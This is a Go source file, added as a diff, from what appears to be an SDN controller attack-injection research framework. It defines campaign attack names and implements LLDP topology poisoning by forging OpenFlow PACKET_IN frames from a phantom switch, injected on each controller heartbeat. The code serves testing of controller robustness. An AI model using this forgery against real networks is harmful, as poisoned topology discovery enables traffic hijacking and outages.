@@ -1,0 +1,99 @@
+package topo
+
+import (
+	"attain/internal/core/lang"
+	"attain/internal/core/model"
+	"attain/internal/netaddr"
+	"attain/internal/openflow"
+)
+
+// Topology-level attack names, the fabric dimension of campaign sweeps.
+const (
+	// AttackBaseline runs the fabric with no injector interposed.
+	AttackBaseline = "baseline"
+	// AttackLLDPPoison forges LLDP PACKET_INs through the injector so the
+	// controller's discovery learns phantom links (topology poisoning).
+	AttackLLDPPoison = "lldp-poison"
+	// AttackLinkFlap is a scripted port-status churn storm across a
+	// seeded subset of links.
+	AttackLinkFlap = "link-flap"
+	// AttackFingerprint runs timing probes from a rogue switch to
+	// classify the controller implementation.
+	AttackFingerprint = "fingerprint"
+)
+
+// FabricAttackNames lists the attack dimension values campaigns may
+// sweep.
+func FabricAttackNames() []string {
+	return []string{AttackBaseline, AttackLLDPPoison, AttackLinkFlap, AttackFingerprint}
+}
+
+// TemplateLLDPPhantom names the injector template carrying the poisoned
+// discovery frame.
+const TemplateLLDPPhantom = "lldp_phantom"
+
+// PhantomDPID derives the fabricated datapath id a poisoning run
+// advertises: outside the graph's allocation but deterministic in the
+// seed.
+func PhantomDPID(g *Graph) uint64 {
+	var max uint64
+	for _, sw := range g.Switches {
+		if sw.DPID > max {
+			max = sw.DPID
+		}
+	}
+	return (max + 0x0f0f) & 0xffff_ffff_ffff
+}
+
+// PhantomTemplates builds the per-experiment injector vocabulary for LLDP
+// poisoning: TemplateLLDPPhantom fabricates a PACKET_IN that looks like an
+// LLDP frame from a non-existent switch arriving on the victim's port 1.
+// Injected switch-to-controller on connection (c1, victim), the
+// controller's discovery records the phantom adjacency
+// (phantom:1 -> victim:1) — a link that exists nowhere in the graph.
+func PhantomTemplates(g *Graph) map[string]func() openflow.Message {
+	phantom := PhantomDPID(g)
+	return map[string]func() openflow.Message{
+		TemplateLLDPPhantom: func() openflow.Message {
+			frame := MarshalLLDP(phantom, 1, netaddr.MAC{0x0e, 0xff, 0, 0, 0, 1})
+			return &openflow.PacketIn{
+				BufferID: openflow.NoBuffer,
+				TotalLen: uint16(len(frame)),
+				InPort:   1,
+				Reason:   openflow.PacketInReasonNoMatch,
+				Data:     frame,
+			}
+		},
+	}
+}
+
+// LLDPPoisonAttack builds the poisoning attack description: on every
+// victim connection, each switch-to-controller ECHO_REQUEST (the
+// control channel's steady heartbeat) passes through and additionally
+// triggers injection of one phantom LLDP PACKET_IN toward the
+// controller. The heartbeat pacing keeps the poison rate bounded and
+// deterministic without a dedicated timer in the DSL.
+func LLDPPoisonAttack(sys *model.System, victims []model.Conn) *lang.Attack {
+	if len(victims) == 0 {
+		victims = append([]model.Conn(nil), sys.ControlPlane...)
+	}
+	a := lang.NewAttack("lldp-poison", "sigma1")
+	a.AddState(&lang.State{
+		Name: "sigma1",
+		Rules: []*lang.Rule{{
+			Name:  "phi1",
+			Conns: victims,
+			Caps:  model.AllCapabilities,
+			Cond: lang.Cmp{
+				Op: lang.OpEq,
+				L:  lang.Prop{Name: lang.PropType},
+				R:  lang.Lit{Value: "ECHO_REQUEST"},
+			},
+			Actions: []lang.Action{
+				lang.PassMessage{},
+				lang.InjectMessage{Template: TemplateLLDPPhantom, Direction: lang.SwitchToController},
+			},
+		}},
+	})
+	return a
+}
